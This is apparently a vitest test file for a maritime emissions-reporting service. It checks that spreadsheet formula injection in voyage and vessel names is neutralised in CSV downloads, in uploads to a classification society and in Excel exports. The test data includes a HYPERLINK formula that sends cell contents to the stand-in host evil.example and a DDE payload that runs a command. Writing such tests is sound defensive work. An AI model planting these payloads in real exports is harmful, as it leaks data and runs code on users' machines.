import http from "node:http";
import type { AddressInfo } from "node:net";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { demoTokens, vesselIdNamed, writeAuroraVoyages } from "../support/auroraVoyages.js";
import { startTestServer, type TestServer } from "../support/testServer.js";

/** Names a person can type that a spreadsheet would run as formulas (issue 28, item 4). */
const VOYAGE = '=HYPERLINK("http://evil.example/?x="&A2,"Open")';
const VESSEL = "@SUM(1+1)*cmd|' /C calc'!A0";

const received: string[] = [];
const receiver = http.createServer((req, res) => {
  let body = "";
  req.on("data", (chunk) => {
    body += chunk;
  });
  req.on("end", () => {
    received.push(body);
    res.writeHead(201).end();
  });
});

let server: TestServer;
let t: Awaited<ReturnType<typeof demoTokens>>;
const departureId = "0e0e0f00-0000-4000-8000-000000000001";

beforeAll(async () => {
  await new Promise<void>((resolve) => receiver.listen(0, "127.0.0.1", resolve));
  const { port } = receiver.address() as AddressInfo;
  server = await startTestServer({ CLASS_SOCIETY_URL: `http://127.0.0.1:${port}/voyages` });
  t = await demoTokens(server);
  const vesselId = await vesselIdNamed(server, t.super, "Nordic Aurora");
  const vessels = await server.api<{ id: string; version: number }[]>("GET", "/VesselAdministrations", {
    token: t.admin,
  });
  const aurora = vessels.body.find((v) => v.id === vesselId)!;
  const renamed = await server.api("PUT", `/VesselAdministrations/${vesselId}`, {
    token: t.admin,
    body: { ...aurora, name: VESSEL, version: aurora.version },
  });
  expect(renamed.status).toBe(200);
  await writeAuroraVoyages(server, vesselId, {
    ids: [
      departureId,
      ...(["2", "3", "4"].map((n) => `0e0e0f00-0000-4000-8000-00000000000${n}`) as [string, string, string]),
    ],
    voyageNames: [VOYAGE, "-Rotterdam", "+Southampton"],
    correlationId: "hostile-names-test",
  });
  const keySet = await server.api("PUT", "/VesselAdministrations/UpdateVeracityKey", {
    token: t.super,
    body: { vesselId, veracityKey: "veracity-secret-1", expirationDate: null },
  });
  expect(keySet.status).toBe(200);
});
afterAll(async () => {
  await server.close();
  await new Promise((resolve) => receiver.close(resolve));
});

async function download(path: string) {
  const response = await fetch(`${server.url}/api/v1${path}`, {
    headers: { authorization: `Bearer ${t.super}` },
  });
  expect(response.status).toBe(200);
  return Buffer.from(await response.arrayBuffer());
}

const expectNeutralised = (csv: string) => {
  const rows: Record<string, string>[] = parse(csv, { columns: true });
  expect(rows.length).toBeGreaterThan(0);
  for (const row of rows) {
    expect(row.VoyageName).toBe(`'${VOYAGE}`);
    expect(row.VesselName).toBe(`'${VESSEL}`);
    expect(Number(row.FuelTonnesAtSea)).not.toBeNaN();
  }
};

describe("text a spreadsheet would run as a formula", () => {
  it("comes out neutralised in the downloaded DNV voyage file", async () => {
    expectNeutralised((await download(`/EmissionReport/VoyageDnv/${departureId}`)).toString());
  });

  it("comes out neutralised in the file sent to the classification society", async () => {
    const sent = await server.api("POST", `/EmissionReportVesselEvents/${departureId}/UploadDnvVoyageData`, {
      token: t.super,
    });
    expect(sent.status).toBe(200);
    expect(received).toHaveLength(1);
    expectNeutralised(received[0]!);
  });

  it("is a text cell, never a formula, in the exported workbooks", async () => {
    for (const path of [
      `/EmissionReport/MrvVoyage/${departureId}`,
      `/EmissionReport/ImoVoyage/${departureId}`,
    ]) {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await download(path)) as unknown as ArrayBuffer);
      const hostile: ExcelJS.Cell[] = [];
      for (const sheet of workbook.worksheets)
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            if (String(cell.value).includes("HYPERLINK") || String(cell.value).includes("SUM("))
              hostile.push(cell);
            expect(cell.type, `${path} ${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          }),
        );
      expect(hostile.map((cell) => [cell.type, cell.value])).toEqual(
        expect.arrayContaining([
          [ExcelJS.ValueType.String, VOYAGE],
          [ExcelJS.ValueType.String, VESSEL],
        ]),
      );
    }
  });
});
